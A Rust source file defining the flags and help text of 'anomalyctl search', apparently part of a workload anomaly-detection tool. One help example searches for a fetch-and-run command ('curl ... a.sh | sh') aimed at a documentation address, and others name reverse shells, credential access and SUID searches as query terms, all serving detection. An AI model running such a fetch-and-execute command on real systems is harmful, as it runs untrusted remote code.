//! The flags of `anomalyctl search`.

use anomaly_baseline::{Pattern, RowState};
use clap::Args;

use crate::baseline::when::When;
use crate::place::Which;
use crate::search::meaning::Semantic;

pub(crate) const EXAMPLES: &str = "\
Examples:
  anomalyctl search reverse shell bash outbound connection
      what looks most like it, in all workloads, with the matching parts marked
  anomalyctl search 'curl http://198.51.100.7/a.sh | sh'
      what is like a command; addresses, numbers and random names may differ
  anomalyctl search credential access --workload web --since 2d --state held
      one workload, the last two days, and only what waits for a decision
  anomalyctl search 'find -perm -4000'
      words that begin with - go into quotes, or behind --
  anomalyctl search persistence --json | jq -r '.[] | select(.relevance > 0.9) | .id'
      the same for another program
  anomalyctl search --model ~/models/all-MiniLM-L6-v2 --index somebody stole passwords
      by meaning too, where the program was built with --features semantic

Words are looked for in names, arguments and scripts; words of the trade (persistence, lateral movement, \
crypto mining, ...) stand for what they look like there, and the line below a hit says in what it was seen. \
MATCH is how much of the question a hit has, 0 to 1; SCORE is how novel it is, as everywhere else. \
`anomalyctl explain ID` says more, `approve` and `deny` decide.
Exit codes: 0 when something was found, 1 when nothing was, 2 when it could not look.";

/// `anomalyctl search`
#[derive(Debug, Args)]
pub(crate) struct Search {
    /// What is looked for, in words or as a command
    #[arg(value_name = "WORD", required_unless_present = "index")]
    pub(crate) words: Vec<String>,

    #[command(flatten)]
    pub(crate) which: Which,

    /// Only workloads that match
    #[arg(long, value_name = "PATTERN")]
    pub(crate) workload: Option<Pattern>,

    /// Only what is learned, held or denied
    #[arg(long, value_name = "STATE", default_value = "all", value_parser = ["all", "learned", "held", "denied"])]
    pub(crate) state: String,

    /// Only what was seen at this time or later: 2026-11-01, 2026-11-01T14:00:00Z, or 30d for thirty days ago
    #[arg(long, value_name = "WHEN")]
    pub(crate) since: Option<When>,

    /// Only what was seen at this time or before
    #[arg(long, value_name = "WHEN")]
    pub(crate) until: Option<When>,

    /// How many are shown at most
    #[arg(long, value_name = "N", default_value_t = 20, value_parser = clap::value_parser!(u16).range(1..=10_000))]
    pub(crate) limit: u16,

    /// Print one JSON array
    #[arg(long)]
    pub(crate) json: bool,

    #[command(flatten)]
    pub(crate) semantic: Semantic,
}

impl Search {
    /// Whether rows of this state are asked for. What was forgotten is in the archive alone.
    pub(super) fn wants(&self, state: RowState) -> bool {
        match state {
            RowState::Active => matches!(&*self.state, "all" | "learned"),
            RowState::Held => matches!(&*self.state, "all" | "held"),
            RowState::Denied => matches!(&*self.state, "all" | "denied"),
            RowState::Forgotten => false,
        }
    }
}
